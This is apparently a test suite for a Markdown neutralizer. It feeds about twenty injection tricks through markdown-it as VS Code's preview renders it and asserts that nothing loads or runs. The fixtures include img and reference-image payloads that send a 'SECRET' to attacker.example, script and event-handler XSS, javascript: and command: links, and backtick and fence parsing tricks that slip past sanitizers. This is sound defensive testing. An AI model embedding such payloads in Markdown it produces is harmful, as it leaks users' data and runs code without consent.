// Answers written into Markdown documents, attacked through what markdown-it pairs and VS Code's
// preview (a stock markdown-it with raw HTML on) renders: nothing loads, nothing runs, code unchanged.
import { describe, it } from 'node:test';
import * as assert from 'node:assert/strict';
import MarkdownIt from 'markdown-it';
import { neutralizeMarkdown } from '../../src/core/markdown/neutralize';

const stockPreview = new MarkdownIt({ html: true });
const IMG = '<img src="https://attacker.example/?c=SECRET">';

function assertInert(markdown: string): string {
  const html = stockPreview.render(neutralizeMarkdown(markdown));
  assert.doesNotMatch(html, /<(?:img|script|iframe|picture|source|video|audio|link|style)\b/i, html);
  assert.doesNotMatch(html, /\b(?:src|srcset)\s*=\s*["']?\s*https?:/i, html);
  // A link the user may click stays a link; no other element fetches an href.
  assert.doesNotMatch(html, /<(?!a\s)[a-z]+\b[^>]*\shref\s*=\s*["']?\s*https?:/i, html);
  assert.doesNotMatch(html, /<[^>]*\son[a-z]+\s*=/i, html);
  return html;
}

const TRICKS: Record<string, string> = {
  'a code span across lines ends where the scanner thinks one starts': `Here is \`x\n\`${IMG}\` ok`,
  'a code span across three lines': `a \`\`one\ntwo\n\`\`${IMG}\` x`,
  'unbalanced backticks before HTML': `\`\`\` not a fence \` ${IMG}`,
  'backtick runs of different lengths': `\`\`a\` ${IMG} \`\` b \`${IMG}\``,
  'a backtick inside an HTML attribute pairs after neutralising': `<a title="\`">x</a> \`${IMG}\``,
  'HTML in a list item': `- one\n- ${IMG}\n  ${IMG}`,
  'HTML in a block quote across a code span': `> see \`x\n> \`${IMG}\``,
  'HTML in a table cell': `| a | b |\n|---|---|\n| \`x\` | ${IMG} |\n| <script>alert(1)</script> | \`y\` |`,
  'a reference-style image': `![chart][c]\n\n[c]: https://attacker.example/c.png`,
  'a collapsed reference image': `![c][]\n\n[c]: <https://attacker.example/c.png>`,
  'an image after a fence markdown-it does not close': `\`\`\`\ncode\n\`\`\`x\`y\n${IMG}`,
  'an image after a fence closed by a shorter run': `\`\`\`\`\ncode\n\`\`\`\n${IMG}\n\`\`\`\``,
  'an HTML block whose backticks would open a fence': `<div>\n\`\`\`\n</div>\n\n\`\`\`\n${IMG}\n\`\`\``,
  'an HTML block that hides a tilde fence': `<pre>\n~~~\n</pre>\n\n~~~\n${IMG}\n~~~`,
  'entity-encoded tags': `&lt;img src="https://attacker.example/a"> &#60;img src=x onerror=alert(1)>`,
  'an autolink': '<https://attacker.example/?c=SECRET> and <javascript:alert(1)>',
  'a srcset in a picture': '<picture><source srcset="https://attacker.example/a.png"></picture>',
  'an event handler on a harmless tag': '<b onmouseover="alert(1)">hover</b>',
  'an image inside link text': `[![x](https://attacker.example/x.png)](https://example.com)`,
  'an HTML block after a code span on the line before': `\`x\`\n<iframe src="https://attacker.example/">`,
  'an escaped backtick then a backtick pair around HTML': `\\\`\` ${IMG} \``,
};

describe('neutralised Markdown rendered by a stock preview', () => {
  for (const [name, markdown] of Object.entries(TRICKS)) {
    it(`attack: ${name}`, () => {
      assertInert(markdown);
    });
  }

  it('a dangerous link settles in one pass: code elsewhere stays as written', () => {
    const out = neutralizeMarkdown('[run](command:workbench.action.terminal.new) and `<b>`');
    assert.equal(out, '[run\\](command:workbench.action.terminal.new) and `<b>`');
  });

  it('code spans across lines, fences and indented code stay byte-identical', () => {
    const markdown = ['Use `Vec<T>\nand <b>` here.', '', '```html', `${IMG}`, '```', '', `    ${IMG}`, '', '| `<i>` | x |', '|---|---|'].join('\n');
    const out = neutralizeMarkdown(markdown);
    assert.ok(out.includes('`Vec<T>\nand <b>`'), out);
    assert.ok(out.includes(`\`\`\`html\n${IMG}\n\`\`\``), out);
    assert.ok(out.includes(`    ${IMG}`), out);
    assert.ok(out.includes('| `<i>` | x |'), out);
  });
});
